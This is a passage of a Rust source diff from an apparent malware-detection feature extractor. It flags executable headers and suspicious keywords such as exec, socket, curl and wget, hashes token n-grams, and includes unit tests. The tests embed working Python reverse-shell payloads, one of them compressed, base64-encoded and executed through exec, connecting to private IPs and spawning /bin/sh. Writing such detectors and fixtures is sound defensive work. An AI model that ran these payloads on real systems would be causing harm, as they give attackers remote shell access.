+    if bytes.is_empty() || printable * 10 < bytes.len() * 9 {
+        // Binary: an ELF or PE header is itself a sign.
+        if bytes.starts_with(b"\x7fELF") || bytes.starts_with(b"MZ") {
+            acc.set(F::ExeDrop);
+            acc.hidden = true;
+        }
+        return;
+    }
+    let text = String::from_utf8_lossy(bytes);
+    let (tokens, _) = tokenize(&text);
+    let looks_like_code = tokens.iter().any(|t| {
+        t.kind == Kind::Name
+            && matches!(
+                last_segment(&t.text),
+                "import"
+                    | "exec"
+                    | "eval"
+                    | "def"
+                    | "socket"
+                    | "system"
+                    | "Popen"
+                    | "subprocess"
+                    | "urlopen"
+                    | "bash"
+                    | "sh"
+                    | "curl"
+                    | "wget"
+                    | "python"
+                    | "python3"
+                    | "print"
+            )
+    });
+    if looks_like_code {
+        acc.hidden = true;
+    }
+    scan(&text, &tokens, depth + 1, acc);
+}
+
+/// Hashed unigrams and bigrams of the normalised token stream.
+fn ngrams(tokens: &[Token], mut grams: Option<&mut Vec<Gram>>) -> Vec<u32> {
+    let mut stream: Vec<std::borrow::Cow<'_, str>> = Vec::with_capacity(tokens.len());
+    for t in tokens {
+        match t.kind {
+            Kind::Name => stream.push(std::borrow::Cow::Borrowed(t.text.as_str())),
+            Kind::Str => stream.push(std::borrow::Cow::Borrowed(string_class(&t.text))),
+            Kind::Number => {}
+            Kind::Op => {
+                if matches!(t.text.as_str(), "=" | "+" | "[" | "%") {
+                    stream.push(std::borrow::Cow::Borrowed(t.text.as_str()));
+                }
+            }
+        }
+    }
+    let mask = (1u32 << HASH_BITS) - 1;
+    let mut out = Vec::with_capacity(stream.len() * 2);
+    for (i, w) in stream.iter().enumerate() {
+        let h1 = fnv(0, w.as_bytes());
+        out.push(h1 & mask);
+        if let Some(g) = grams.as_deref_mut() {
+            g.push(Gram {
+                text: w.to_string(),
+                bucket: h1 & mask,
+            });
+        }
+        if let Some(next) = stream.get(i + 1) {
+            let h2 = fnv(fnv(h1, b"\x00"), next.as_bytes());
+            out.push(h2 & mask);
+            if let Some(g) = grams.as_deref_mut() {
+                g.push(Gram {
+                    text: format!("{w} {next}"),
+                    bucket: h2 & mask,
+                });
+            }
+        }
+    }
+    out.sort_unstable();
+    out.dedup();
+    out
+}
+
+/// A string literal's class in the n-gram stream: short plain strings stand for themselves.
+fn string_class(s: &str) -> &str {
+    if s.is_empty() {
+        return "S:empty";
+    }
+    if s.len() <= 24
+        && s.bytes().all(|c| {
+            c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.' | b'/' | b' ' | b'+')
+        })
+    {
+        return s;
+    }
+    if s.starts_with("http://") || s.starts_with("https://") {
+        return "S:url";
+    }
+    if s.len() >= 64
+        && s.bytes()
+            .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'='))
+    {
+        return "S:blob";
+    }
+    if s.contains('\n') {
+        return "S:text";
+    }
+    "S:other"
+}
+
+/// 32-bit FNV-1a, continuing from `seed` (0 starts fresh).
+fn fnv(seed: u32, bytes: &[u8]) -> u32 {
+    let mut h = if seed == 0 { 0x811c_9dc5 } else { seed };
+    for &b in bytes {
+        h ^= u32::from(b);
+        h = h.wrapping_mul(0x0100_0193);
+    }
+    h
+}
+
+#[cfg(test)]
+mod tests {
+    #![allow(clippy::unwrap_used, reason = "tests")]
+    use super::*;
+
+    fn on(src: &str, f: F) -> bool {
+        extract(src).named[f as usize] > 0.0
+    }
+
+    #[test]
+    fn reverse_shell_combo() {
+        let src = "import socket,os,pty\ns=socket.socket()\ns.connect(('10.0.0.1',4444))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/sh')";
+        assert!(on(src, F::RevShell));
+        assert!(on(src, F::IpLiteral));
+        assert!(!on(
+            "import socket\ns = socket.socket()\ns.connect(('db', 5432))",
+            F::RevShell
+        ));
+    }
+
+    #[test]
+    fn decodes_nested_payloads() {
+        use base64::Engine as _;
+        let inner = "import socket,subprocess,os;s=socket.socket();s.connect(('10.1.1.1',9));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])";
+        let z = miniz_oxide::deflate::compress_to_vec_zlib(inner.as_bytes(), 6);
+        let b = base64::engine::general_purpose::STANDARD.encode(z);
+        let src = format!("import zlib,base64\nexec(zlib.decompress(base64.b64decode('{b}')))");
+        let f = extract(&src);
+        assert!(f.named[F::Hidden as usize] > 0.0);
+        assert!(f.named[F::RevShell as usize] > 0.0);
+        assert!(f.named[F::DecodeExec as usize] > 0.0);
+    }
+
+    #[test]
+    fn ipv4_detection() {
+        assert!(has_ipv4("connect to 10.2.3.4 now"));
+        assert!(!has_ipv4("version 1.2.3"));
+        assert!(!has_ipv4("127.0.0.1"));
+        assert!(!has_ipv4("1.2.3.4.5"));
+    }
+
+    #[test]
+    fn odd_inputs_do_not_panic() {
+        for s in [
+            "",
+            "'",
+            "'''",
+            "\u{0}",
+            "exec(",
+            "a.",
+            ".b",
+            "x='\\x'",
+            "'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=='",
+        ] {
+            let _ = extract(s);
+        }
+    }
+}
